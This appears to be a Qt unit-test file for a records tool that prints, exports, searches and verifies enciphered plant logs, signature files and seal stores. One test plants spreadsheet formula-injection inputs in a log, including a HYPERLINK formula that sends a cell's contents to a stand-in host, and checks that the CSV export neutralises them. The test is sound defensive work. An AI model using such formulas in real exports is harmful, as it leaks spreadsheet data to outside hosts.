#include "command_line.h"
#include "plant/plant_store.h"
#include "platform/seal_core.h"
#include "record_commands.h"
#include "records/audit_trail.h"
#include "records/data_logger.h"
#include "support/audit_files.h"
#include "support/test_env.h"

#include <QBuffer>
#include <QCryptographicHash>
#include <QDir>
#include <QFileInfo>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <sys/stat.h>

using namespace Qt::StringLiterals;

namespace {
// Written out here rather than taken from the tool, so that a slip in either shows.
const QString kHeader = QStringLiteral(
    "Date,Time,User ID,Full Name,User Description,User Action,User Comment,Hash Value");
const QStringList kDataLines = {
    QStringLiteral("Date,Time,Operator Message,Batch Number,Lot Number,TIC-1,TIC-1.SP,"),
    QStringLiteral("3/14/26,10:00:00 AM,File started byJohn Smith (login as jsmith ),42,7, 123.4,"
                   " 120,"),
    QStringLiteral("3/14/26,10:00:05 AM,.,.,.,123.5,120,")};

QByteArray withDigitChanged(QByteArray hex, qsizetype at) {
    hex[at] = hex[at] == '0' ? '1' : '0';
    return hex;
}

QString signatureLine(const QString& who, const QString& comment, const QString& hash) {
    return QStringLiteral("3/14/26,11:00:00 AM,%1,%1 Name,QA,Signed,%2,%3").arg(who, comment, hash);
}

struct Run {
    int status;
    QStringList out;
    QStringList err;
};

// One command of the tool in process, what it wrote to each stream split into lines.
template <typename Command, typename... Args> Run call(Command command, const Args&... args) {
    QBuffer out;
    QBuffer err;
    out.open(QIODevice::WriteOnly);
    err.open(QIODevice::WriteOnly);
    const int status = command(args..., out, err);
    const auto lines = [](const QByteArray& bytes) {
        return bytes.isEmpty() ? QStringList() : QString::fromUtf8(bytes).chopped(1).split(u'\n');
    };
    return {status, lines(out.data()), lines(err.data())};
}
} // namespace

class TstRecordsTool : public QObject {
    Q_OBJECT
private slots:
    void damagedLinesAreNamed_data();
    void damagedLinesAreNamed();
    void verify_data();
    void verify();
    void exportKeepsWhatExists();
    void exportsAreSafeInASpreadsheet();
    void search_data();
    void search();
    void commandLine_data();
    void commandLine();
    void verifySealNamesEachFileAndTheWorst();
    void printsThroughTheProcess();
};

// The line semantics of the one record reader, which every viewer shares.
void TstRecordsTool::damagedLinesAreNamed_data() {
    QTest::addColumn<QByteArray>("file");
    QTest::addColumn<QStringList>("plain");
    QTest::addColumn<QStringList>("damaged"); // what is said of each damaged line

    const QStringList p{"first,line", "second,line", "third,line"};
    QList<QByteArray> h;
    for (const QString& line : p)
        h << encryptText(line).toLatin1();
    const QByteArray crlf = "\r\n";
    const auto row = [](const char* name, const QByteArray& file, const QStringList& plain,
                        const QStringList& said = {}) {
        QTest::newRow(name) << file << plain << said;
    };
    const QString line2 = QStringLiteral("line 2 does not decipher");
    row("damaged line and torn last line",
        h[0] + crlf + withDigitChanged(h[1], h[1].size() / 2) + crlf + h[2].left(9), {p[0], {}, {}},
        {line2, "line 3 does not decipher: cut short, the file ends inside it"});
    row("last line without its end", h[0] + crlf + h[1] + crlf + h[2], p);
    row("last line cut between CR and LF", h[0] + crlf + h[1] + crlf + h[2] + '\r', p);
    row("bare LF", h[0] + '\n' + h[1] + '\n' + h[2] + '\n', p);
    row("blank line between", h[0] + crlf + crlf + h[2] + crlf, {p[0], {}, p[2]}, {line2});
    row("empty file", {}, {});
    row("an empty plain line is no damage", h[0] + crlf + encryptText({}).toLatin1() + crlf,
        {p[0], {}});
}

void TstRecordsTool::damagedLinesAreNamed() {
    QFETCH(QByteArray, file);
    QFETCH(QStringList, plain);
    QFETCH(QStringList, damaged);
    TestEnv env;
    const QString path = env.path("3-14-2026 AlmLog.alf");
    QVERIFY(writeBytes(path, file));
    const QStringList errors = damaged.replaceInStrings(QRegularExpression("^"), path + ": ");
    const int status = damaged.isEmpty() ? kOk : kDamaged;

    const Run print = call(printRecords, QStringList{path});
    QCOMPARE(std::make_tuple(print.out, print.err, print.status),
             std::make_tuple(plain, errors, status));
    // The export holds the same lines, a damaged one left empty in its place.
    const Run exported = call(exportRecords, path, QString(), false);
    QCOMPARE(std::make_tuple(exported.err, exported.status), std::make_tuple(errors, status));
    QCOMPARE(readBytes(env.path("3-14-2026 AlmLog.csv")),
             "\xEF\xBB\xBF" +
                 (plain.isEmpty() ? QByteArray() : (plain.join("\r\n") + "\r\n").toUtf8()));
}

void TstRecordsTool::verify_data() {
    // In the signature lines "{hash}" stands for the hash of the data file when it was written,
    // "{new}" for the hash after its change, "{damaged}" for a line that does not decipher.
    QTest::addColumn<QStringList>("signatureFile");
    QTest::addColumn<bool>("changeData");
    QTest::addColumn<QStringList>("verdicts");
    QTest::addColumn<QStringList>("errors"); // "{sif}" is the signature file
    QTest::addColumn<int>("status");

    const QString anna = signatureLine("anna", "None", "{hash}");
    const QString signedBy = QStringLiteral("line %1: signed 3/14/26 11:00:00 AM by anna (anna "
                                            "Name), comment \"%2\": %3");
    const QString valid = signedBy.arg("%1", "None", "confirmed");
    const QString changed =
        signedBy.arg("%1", "None", "altered (the file changed after this signature)");
    const auto row = [](const char* name, const QStringList& sif, bool change,
                        const QStringList& verdicts, const QStringList& errors, int status) {
        QTest::newRow(name) << sif << change << verdicts << errors << status;
    };
    row("signed again after the change", {kHeader, anna, signatureLine("anna", "None", "{new}")},
        true, {changed.arg(2), valid.arg(3)}, {}, kMismatch);
    row("comment with a comma", {kHeader, signatureLine("anna", "ok, checked", "{hash}")}, false,
        {signedBy.arg("2", "ok, checked", "confirmed")}, {}, kOk);
    row("signed while the hash failed", {kHeader, signatureLine("anna", "None", "")}, false,
        {signedBy.arg("2", "None", "altered (the signature holds no valid hash)")}, {}, kMismatch);
    row("header lost, signed again", {anna}, false, {valid.arg(1)},
        {"{sif}: line 1 is not the header line"}, kNotVerified);
    row("a line that is no signature",
        {kHeader, "3/14/26,11:00:00 AM,anna,Anna,QA,Viewed,None,{hash}", anna}, false,
        {valid.arg(3)}, {"{sif}: line 2 is not a signature line"}, kNotVerified);
    row("damaged signature line", {kHeader, "{damaged}", anna}, false, {valid.arg(3)},
        {"{sif}: line 2 does not decipher"}, kDamaged);
    row("damaged line and a changed file", {"{damaged}", anna}, true, {changed.arg(2)},
        {"{sif}: line 1 does not decipher"}, kMismatch);
}

void TstRecordsTool::verify() {
    QFETCH(QStringList, signatureFile);
    QFETCH(bool, changeData);
    QFETCH(QStringList, verdicts);
    QFETCH(QStringList, errors);
    QFETCH(int, status);
    TestEnv env;
    const QString data = env.path("Log Files/3-14-2026_10H_0M_0S.slg");
    const QString sif = env.path("Log Files/3-14-2026_10H_0M_0S.sif");
    const QByteArray bytes = enciphered(kDataLines);
    QVERIFY(writeBytes(data, bytes));
    const QString signedHash = hashFileHex(data);
    if (changeData)
        QVERIFY(writeBytes(data, withDigitChanged(bytes, 100)));
    const QString newHash = hashFileHex(data);
    QByteArray sifBytes;
    for (QString line : signatureFile)
        sifBytes += (line == QLatin1String("{damaged}")
                         ? withDigitChanged(encryptText(kHeader).toLatin1(), 70)
                         : encryptText(line.replace("{hash}", signedHash).replace("{new}", newHash))
                               .toLatin1()) +
                    "\r\n";
    QVERIFY(writeBytes(sif, sifBytes));

    const Run run = call(verifySignatures, data, QString());
    QCOMPARE(run.out.filter(QRegularExpression("^line ")), verdicts);
    QCOMPARE(run.err, errors.replaceInStrings("{sif}", sif));
    QCOMPARE(run.status, status);
    QVERIFY(run.out.contains(QStringLiteral("SHA-256 now:    ") + newHash));
}

void TstRecordsTool::exportKeepsWhatExists() {
    TestEnv env;
    const QString data = env.path("batch 42.slg");
    const QString csv = env.path("batch 42.csv");
    QVERIFY(writeBytes(data, enciphered(kDataLines)));
    QVERIFY(writeBytes(csv, "kept"));
    Run run = call(exportRecords, data, csv, false);
    QCOMPARE(run.status, int(kUnusable));
    QCOMPARE(run.err, QStringList{csv + ": already exists; --force replaces it"});
    QCOMPARE(readBytes(csv), QByteArray("kept"));
    QCOMPARE(call(exportRecords, data, csv, true).status, int(kOk));
    QCOMPARE(readBytes(csv), "\xEF\xBB\xBF" + (kDataLines.join("\r\n") + "\r\n").toUtf8());

    // Not even --force lets the export replace the record it reads.
    const QByteArray record = readBytes(data);
    QCOMPARE(call(exportRecords, data, data, true).status, int(kUnusable));
    QCOMPARE(readBytes(data), record);

    // A line longer than any record line ends the reading instead of filling the memory, and an
    // export of such a file writes nothing.
    const QString huge = env.path("huge.alf");
    QVERIFY(writeBytes(huge, enciphered(kDataLines.mid(0, 1)) + QByteArray(3 << 20, '0')));
    QCOMPARE(call(exportRecords, huge, env.path("huge.csv"), false).status, int(kUnusable));
    QVERIFY(!QFile::exists(env.path("huge.csv")));
    run = call(printRecords, QStringList{"/dev/zero"});
    QCOMPARE(run.status, int(kUnusable));
    QCOMPARE(run.err, QStringList{"/dev/zero: cannot be read: line 1 is longer than any record "
                                  "line; the file is damaged"});
}

void TstRecordsTool::exportsAreSafeInASpreadsheet() {
    TestEnv env;
    const QString message = uR"(=HYPERLINK("http://example.invalid/?"&A3;"details")&0)"_s;
    const QString data = env.path("run.slg");
    QVERIFY(writeBytes(
        data, enciphered({"Date,Time,Operator Message,TIC-1,",
                          "3/14/2026,10:00:05," + message + ".,-2.5,",
                          "3/14/2026,10:00:06,@SUM(A1),+3e-4,", "3/14/2026,10:00:07,-1-1,- 2,-2e,",
                          u"3/14/2026,10:00:08,\t+x,\"Jos\u00e9\","_s})));
    QCOMPARE(call(exportRecords, data, QString(), false).status, int(kOk));
    // Text that a spreadsheet would run is shown as text; numbers stay numbers; every line keeps
    // its fields, the empty one behind the closing comma too.
    QCOMPARE(csvAsASpreadsheetReadsIt(env.path("run.csv")),
             (QList<QStringList>{{"Date", "Time", "Operator Message", "TIC-1", ""},
                                 {"3/14/2026", "10:00:05", "'" + message + ".", "-2.5", ""},
                                 {"3/14/2026", "10:00:06", "'@SUM(A1)", "+3e-4", ""},
                                 {"3/14/2026", "10:00:07", "'-1-1", "'- 2", "'-2e", ""},
                                 {"3/14/2026", "10:00:08", "'\t+x", u"\"Jos\u00e9\""_s, ""}}));
}

void TstRecordsTool::search_data() {
    QTest::addColumn<QStringList>("query"); // the text, the batch and the lot number
    QTest::addColumn<QStringList>("hits");
    // Every file's start line holds the date 3/14/26, so "14" is in all of them.
    QTest::newRow("batch, exact field") << QStringList{"", "14"} << QStringList{"a", "e"};
    QTest::newRow("lot") << QStringList{"", "", "14"} << QStringList{"b"};
    QTest::newRow("batch and lot") << QStringList{"", "3", "3"} << QStringList{"d"};
    QTest::newRow("text without regard to case") << QStringList{"tic-14"} << QStringList{"d", "h"};
    QTest::newRow("text matches dates as well")
        << QStringList{"14"} << QStringList{"a", "b", "c", "d", "e", "h"};
}

void TstRecordsTool::search() {
    QFETCH(QStringList, query);
    QFETCH(QStringList, hits);
    TestEnv env;
    const QString folder = env.path("Log Files");
    // As the workstation logs them: one channel, the start line and one data line.
    for (const auto& [name, batch, lot, tag] : {std::tuple{"a", 14, 3, "TIC-1"},
                                                {"b", 3, 14, "TIC-1"},
                                                {"c", 140, 3, "TIC-1"},
                                                {"d", 3, 3, "TIC-14"}}) {
        gTagTable[0] = {"0", "1", tag, "0", "", "1"};
        gDataFileName = folder + "/" + name + ".slg";
        gBatchNumber = batch;
        gLotNumber = lot;
        gSaveInterval = 1;
        QVERIFY(startDataFile());
        dataSaveTimerTick();
        stopDataFile();
    }
    // A comma in a name, unguarded in older files, moves the numbers one field on.
    QVERIFY(writeBytes(folder + "/e.slg",
                       enciphered({kDataLines[0], "3/14/26,10:00:00 AM,File started bySmith, "
                                                  "John (login as js ),14,3, 1.0,"})));
    // Cut before its start line: a hit for the text, but it has no batch to match.
    QVERIFY(writeBytes(folder + "/h.slg", enciphered({"Date,Time,Operator Message,Batch Number,"
                                                      "Lot Number,TIC-14,"})));
    QVERIFY(QDir(folder).mkdir("sub.slg"));
    // Unreadable: a start line that does not decipher, and a pipe that must be counted, not
    // opened, since nothing would ever write to it.
    const QByteArray bytes = readBytes(folder + "/a.slg");
    QVERIFY(writeBytes(folder + "/f.slg", withDigitChanged(bytes, bytes.indexOf('\n') + 40)));
    QCOMPARE(mkfifo(QFile::encodeName(folder + "/g.slg").constData(), 0600), 0);
    DataFileQuery q{query[0], {}, {}};
    if (!query.value(1).isEmpty())
        q.batch = query[1].toInt();
    if (!query.value(2).isEmpty())
        q.lot = query[2].toInt();
    const Run run = call(searchRecords, folder, q);
    QCOMPARE(run.out, hits.replaceInStrings(QRegularExpression("^(.*)$"), folder + "/\\1.slg"));
    QCOMPARE(run.err, QStringList{folder + ": 2 files could not be read"});
    QCOMPARE(run.status, int(kUnusable));
}

// The arguments as the tool takes them, in process; the cases of each command above are not
// repeated here. "{d}" is the folder of the files.
void TstRecordsTool::commandLine_data() {
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("status");
    QTest::addColumn<QString>("inOut");
    QTest::addColumn<QString>("inErr");
    const auto row = [](const char* name, const QStringList& args, int status, const QString& inOut,
                        const QString& inErr) {
        QTest::newRow(name) << args << status << inOut << inErr;
    };
    row("print a missing file among others", {"print", "{d}/none.atr", "{d}/run.slg"}, kUnusable,
        "==> {d}/run.slg <==\n" + kDataLines[0], "{d}/none.atr: cannot be read: No such file");
    row("print a folder", {"print", "{d}"}, kUnusable, {}, "{d}: cannot be read: ");
    row("verify unsigned", {"verify", "{d}/unsigned.slg"}, kUnusable, {},
        "{d}/unsigned.sif: no such signature file");
    row("verify the files swapped", {"verify", "{d}/run.sif"}, kUnusable, {},
        "{d}/run.sif: is the signature file itself");
    // The header-only file, not run.sif beside the data file, must be the one read.
    row("verify a named signature file", {"verify", "{d}/run.slg", "{d}/blank.sif"}, kNotVerified,
        "Signature file: {d}/blank.sif", "{d}/blank.sif: holds no signature");
    row("verify three files", {"verify", "{d}/run.slg", "{d}/run.sif", "{d}/x"}, kUnusable, {},
        "verify takes a data file");
    row("search by batch in Log Files", {"search", "--batch", "42"}, kOk, "{d}/Log Files/run.slg",
        {});
    row("search finds nothing", {"search", "--folder", "{d}/Log Files", "--lot", "42"}, kNotFound,
        {}, "{d}/Log Files: no data file has lot number 42");
    row("search for a number that is none", {"search", "--batch", "4e2"}, kUnusable, {},
        "--batch takes a whole number");
    // Only a .csv file is written: plain text must never take the place of a record file.
    row("export over a signature file", {"export", "--force", "{d}/run.slg", "{d}/run.sif"},
        kUnusable, {}, "{d}/run.sif: is no .csv file; the export writes only to one");
    row("an option of another command", {"print", "--force", "{d}/run.slg"}, kUnusable, {},
        "--force belongs to export only");
    row("unknown command", {"list", "{d}/run.slg"}, kUnusable, {}, "unknown command 'list'");
    row("unknown option", {"print", "--fast", "{d}/run.slg"}, kUnusable, {},
        "Unknown option 'fast'");
}

void TstRecordsTool::commandLine() {
    QFETCH(QStringList, args);
    QFETCH(int, status);
    QFETCH(QString, inOut);
    QFETCH(QString, inErr);
    TestEnv env;
    const QString d = env.appPath();
    QVERIFY(writeBytes(d + "/run.slg", enciphered(kDataLines)));
    QVERIFY(writeBytes(d + "/Log Files/run.slg", enciphered(kDataLines)));
    QVERIFY(QFile::copy(d + "/run.slg", d + "/unsigned.slg"));
    QVERIFY(writeBytes(d + "/run.sif", enciphered({kHeader, signatureLine("anna", "None", "x")})));
    QVERIFY(writeBytes(d + "/blank.sif", enciphered({kHeader})));
    const Run run =
        call(runRecordsTool, QStringList{"sorvantel-records"} + args.replaceInStrings("{d}", d));
    const QString out = run.out.join(u'\n'), err = run.err.join(u'\n');
    QVERIFY2(out.contains(QString(inOut).replace("{d}", d)), qPrintable(out));
    QVERIFY2(inErr.isEmpty() ? err.isEmpty() : err.contains(QString(inErr).replace("{d}", d)),
             qPrintable(err));
    QCOMPARE(run.status, status);
}

// Seals made by the helper's test build over a store of the test's own, then checked as an
// inspector would: the file, the folder, the key kept apart, and each kind of status.
void TstRecordsTool::verifySealNamesEachFileAndTheWorst() {
    QTemporaryDir dir;
    const QString store = dir.filePath("seals");
    const QString app = dir.filePath("app");
    QVERIFY(QDir().mkpath(store) && QDir().mkpath(app + "/Log Files") &&
            QDir().mkpath(app + "/Audit"));
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert("SORVANTEL_SEAL_STORE", store);
    env.insert("SORVANTEL_SEAL_ROUND_MS", "0"); // each line answered at once
    QProcess sealer;
    sealer.setProcessEnvironment(env);
    sealer.start(QStringLiteral(SORVANTEL_SEALER_EXE), {"init"});
    QVERIFY(sealer.waitForFinished(10000));
    const QString key = QString::fromLatin1(sealer.readAllStandardOutput()).split('\n').value(1);
    QVERIFY(writeBytes(dir.filePath("key.txt"), "Verification key: " + key.toLatin1() + "\n"));
    sealer.start(QStringLiteral(SORVANTEL_SEALER_EXE), {"serve"});
    QVERIFY(sealer.waitForReadyRead(5000));
    QCOMPARE(sealer.readLine(), QByteArray("READY\n"));
    const std::pair<const char*, int> files[] = {
        {"Log Files/a.slg", 3}, {"Audit/x.atr", 2}, {"Audit/gone.atr", 1}};
    for (const auto& [name, count] : files) {
        QByteArray bytes;
        for (int n = 1; n <= count; ++n) {
            const QByteArray line = QByteArray(name).toHex().left(8) + QByteArray::number(n);
            sealer.write("L " + QByteArray::number(n) + ' ' + QByteArray(name).toHex() + ' ' +
                         QCryptographicHash::hash(line, QCryptographicHash::Sha256).toHex() + '\n');
            QTRY_VERIFY(sealer.canReadLine());
            QCOMPARE(sealer.readLine(), "OK " + QByteArray::number(n) + '\n');
            bytes += line + "\r\n";
        }
        QVERIFY(writeBytes(app + '/' + name, bytes));
    }
    sealer.closeWriteChannel();
    QVERIFY(sealer.waitForFinished(5000));
    QVERIFY(QFile::remove(app + "/Audit/gone.atr"));

    auto verify = [&](QStringList args) {
        return call(runRecordsTool,
                    QStringList{"sorvantel-records", "verify-seal", "--store", store} + args);
    };
    Run run = verify({"--key", dir.filePath("key.txt"), app});
    QCOMPARE(run.status, int(kMismatch));
    QCOMPARE(run.out.size(), 3);
    QVERIFY(run.out[0].startsWith(app + "/Audit/x.atr: intact, 2 lines, last sealed "));
    QVERIFY(run.out[1].startsWith(app + "/Log Files/a.slg: intact, 3 lines, last sealed "));
    QVERIFY(run.out[2].startsWith(QFileInfo(app).absoluteFilePath() +
                                  "/Audit/gone.atr: file deleted (the seal store has 1 line(s)"));
    // One file alone, with the store's own key: intact, and said whose key it was.
    run = verify({app + "/Log Files/a.slg"});
    QCOMPARE(run.status, int(kOk));
    QVERIFY(run.out[0].startsWith("Checked against the store's own copy"));
    // A last line never sealed, then a line altered: the worst counts.
    QFile a(app + "/Log Files/a.slg");
    QVERIFY(a.open(QIODevice::Append));
    a.write("UNSEALED\r\n");
    a.close();
    run = verify({"--key", dir.filePath("key.txt"), app + "/Log Files"});
    QCOMPARE(run.status, int(kNotVerified));
    QVERIFY(run.out.last().endsWith("line 4 never sealed (the last line, written as the "
                                    "workstation or its sealing stopped)"));
    QByteArray bytes = readBytes(app + "/Log Files/a.slg");
    QVERIFY(writeBytes(app + "/Log Files/a.slg", bytes.replace("2\r\n", "9\r\n")));
    run = verify({"--key", dir.filePath("key.txt"), app + "/Log Files"});
    QCOMPARE(run.status, int(kMismatch));
    QVERIFY(run.out.join('\n').contains(": line 2 altered (sealed by "));
    // Another installation's key, a key file without a key, no store at all.
    QVERIFY(writeBytes(dir.filePath("other.txt"), QByteArray(64, 'a')));
    run = verify({"--key", dir.filePath("other.txt"), app + "/Audit/x.atr"});
    QCOMPARE(run.status, int(kMismatch));
    QCOMPARE(run.out.value(0), "day keys: day key entry 1 not certified by the key before it");
    QVERIFY(writeBytes(dir.filePath("none.txt"), "no key here"));
    QCOMPARE(verify({"--key", dir.filePath("none.txt"), app}).status, int(kUnusable));
    QCOMPARE(call(runRecordsTool, QStringList{"sorvantel-records", "verify-seal", "--store",
                                              dir.filePath("nowhere"), app})
                 .status,
             int(kUnusable));
    // A seal file whose first line is lost cannot be read.
    const QString sealFile =
        store + "/files/" + QString::fromStdString(seal::sealFileName("Audit/x.atr"));
    bytes = readBytes(sealFile);
    QVERIFY(writeBytes(sealFile, bytes.mid(bytes.indexOf('\n') + 1)));
    QCOMPARE(verify({"--key", dir.filePath("key.txt"), app + "/Audit/x.atr"}).status,
             int(kDamaged));
}

// Through the process itself: single-byte characters on disk reach the terminal as themselves.
void TstRecordsTool::printsThroughTheProcess() {
    TestEnv env;
    systemAuditLine("Temp\u00e9rature \u00b0C, noted");
    QVERIFY(writeBytes(env.path("run.slg"), enciphered(kDataLines)));
    QProcess process;
    process.start(QStringLiteral(SORVANTEL_RECORDS_EXE),
                  {"print", auditFilePath(env.clock->time.date()), env.path("run.slg")});
    QVERIFY(process.waitForFinished(60000));
    QCOMPARE(process.exitStatus(), QProcess::NormalExit);
    QVERIFY(QString::fromUtf8(process.readAllStandardOutput())
                .contains("Temp\u00e9rature \u00b0C, noted\n\n==> " + env.path("run.slg") +
                          " <==\n" + kDataLines[0]));
    QCOMPARE(process.readAllStandardError(), QByteArray());
    QCOMPARE(process.exitCode(), int(kOk));
}

QTEST_MAIN(TstRecordsTool)
#include "tst_records_tool.moc"
